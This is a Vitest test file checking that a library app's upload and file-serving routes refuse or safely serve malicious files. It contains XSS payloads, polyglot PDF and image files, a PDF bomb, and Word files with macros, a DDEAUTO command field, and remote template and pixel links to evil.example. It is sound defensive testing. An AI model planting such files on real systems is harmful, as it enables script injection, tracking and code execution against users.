import { expect, it } from 'vitest';
import { receiveUpload } from '~/features/library/files/uploads.server';
import { shareResource } from '~/features/library/resources/share-resource.server';
import { loader } from '~/routes/public/file';
import { aDocx, anXlsx, aPdf, aPhoto, relation } from './files';
import { aPdfBomb } from './pdf-bomb';
import { aNetwork } from './people';
import { input, rowOf } from './shelf';
import { aTellingPdf } from './telling-files';
import { zip } from './zip';

const html = '<html><script>alert(document.domain)</script></html>';
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>';
const join = (...parts: (string | Buffer)[]) => Buffer.concat(parts.map((one) => Buffer.from(one)));

/** Files that would be harmful if a browser or program took them for what they could be. */
async function maliciousFiles(): Promise<[string, Buffer][]> {
  const pdf = await aPdf();
  const jpeg = await aPhoto();
  const png = await aPhoto('png');
  const macro = [{ name: 'word/vbaProject.bin', content: 'x' }];
  const template = relation(
    'attachedTemplate',
    'https://evil.example/t.dotm',
    ' TargetMode="External"',
  );
  const pixel = relation('image', 'https://evil.example/a.png', ' TargetMode="External"');
  const dde = '<w:p><w:fldSimple w:instr="DDEAUTO cmd"><w:r/></w:fldSimple></w:p>';
  const names = [
    'a.html',
    'a.svg',
    'a.xhtml',
    'a.htm',
    'a.js',
    'a.exe',
    'a.zip',
    'a.docm',
    'a.hta',
  ];
  return [
    ...names.map((name): [string, Buffer] => [
      name,
      Buffer.from(name.endsWith('svg') ? svg : html),
    ]),
    ...['a.pdf', 'a.png', 'a.jpg', 'a.webp', 'a.docx', 'a.xlsx', 'a.PDF.html'].flatMap(
      (name): [string, Buffer][] => [
        [name, Buffer.from(html)],
        [name, Buffer.from(svg)],
      ],
    ),
    ['page before pdf.pdf', join(html, pdf)],
    ['page behind pdf.pdf', join(pdf, html.repeat(50))],
    ['archive behind pdf.pdf', join(pdf, zip([{ name: 'a.class', content: 'x' }]))],
    ['remark.pdf', join(pdf.subarray(0, 9), `\n%${html}\n`, pdf.subarray(9))],
    ['scripts.pdf', await aTellingPdf()],
    ['signed scripts.pdf', await aTellingPdf({ signed: true })],
    ['bomb.pdf', aPdfBomb()],
    ['page behind picture.jpg', join(jpeg, html)],
    ['archive behind picture.png', join(png, zip([{ name: 'a.html', content: html }]))],
    ['page in remark.jpg', join(jpeg.subarray(0, 2), '\xff\xfe\x00\x37', html, jpeg.subarray(2))],
    ['macro.docx', aDocx({ parts: macro })],
    ['template.docx', aDocx({ rels: template })],
    ['pixel.docx', aDocx({ rels: pixel })],
    ['dde.docx', aDocx({ body: dde })],
    ['object.docx', aDocx({ parts: [{ name: 'word/embeddings/oleObject1.bin', content: 'x' }] })],
    ['page in document.docx', aDocx({ parts: [{ name: 'word/a.html', content: html }] })],
    ['connection.xlsx', anXlsx({ parts: [{ name: 'xl/connections.xml', content: '<x/>' }] })],
    ['pdf in the head.docx', aDocx({ head: '%PDF-1.7' })],
  ];
}

const safe = {
  'content-disposition': /^attachment; filename="/,
  'content-security-policy': /^sandbox; default-src 'none'$/,
  'x-content-type-options': /^nosniff$/,
  'content-type':
    /^(?:application\/(?:pdf|vnd\.openxmlformats-officedocument\.[\w.]+)|image\/(?:png|jpeg|webp))$/,
};

it('malicious files: those that are taken at all are handed out to save and never shown', async () => {
  const { staff } = await aNetwork();
  const files = await maliciousFiles();
  const refused: string[] = [];
  const inline: string[] = [];
  let taken = 0;
  for (const [name, bytes] of files) {
    const result = await receiveUpload(staff, { name, bytes });
    if ('refusal' in result) {
      refused.push(result.refusal);
      continue;
    }
    const upload = result.reference;
    const saved = await shareResource(
      staff,
      input({ upload, asItIs: true, hiddenText: 'out', seen: true }),
    );
    expect([name, saved]).toMatchObject([name, { status: 'saved' }]);
    const [file] = (await rowOf(saved.status === 'saved' ? saved.slug : '')).files;
    taken += 1;
    for (const init of [{}, { method: 'HEAD' }, { headers: { Range: 'bytes=0-99' } }]) {
      // Whatever file name the URL has.
      const url = `http://localhost/files/${file?.id}/${encodeURIComponent('x.html')}`;
      const request = new Request(url, init);
      const params = { id: file?.id ?? '', name: 'x.html' };
      const { headers } = await loader({ request, params, context: {} });
      for (const [header, pattern] of Object.entries(safe))
        if (!pattern.test(headers.get(header) ?? '')) inline.push(`${name} ${header}`);
    }
  }
  console.log(
    `malicious: ${files.length} files, ${refused.length} refused, ${taken} taken, ${inline.length} served inline`,
  );
  expect(inline).toEqual([]);
  expect(refused.length).toBeGreaterThanOrEqual(30);
  // Each is refused for its own reason, which the sharer is told.
  for (const reason of [
    'fileKind',
    'fileMismatch',
    'fileMacros',
    'fileExternal',
    'fileConnected',
    'fileEmbedded',
  ])
    expect(refused).toContain(reason);
});
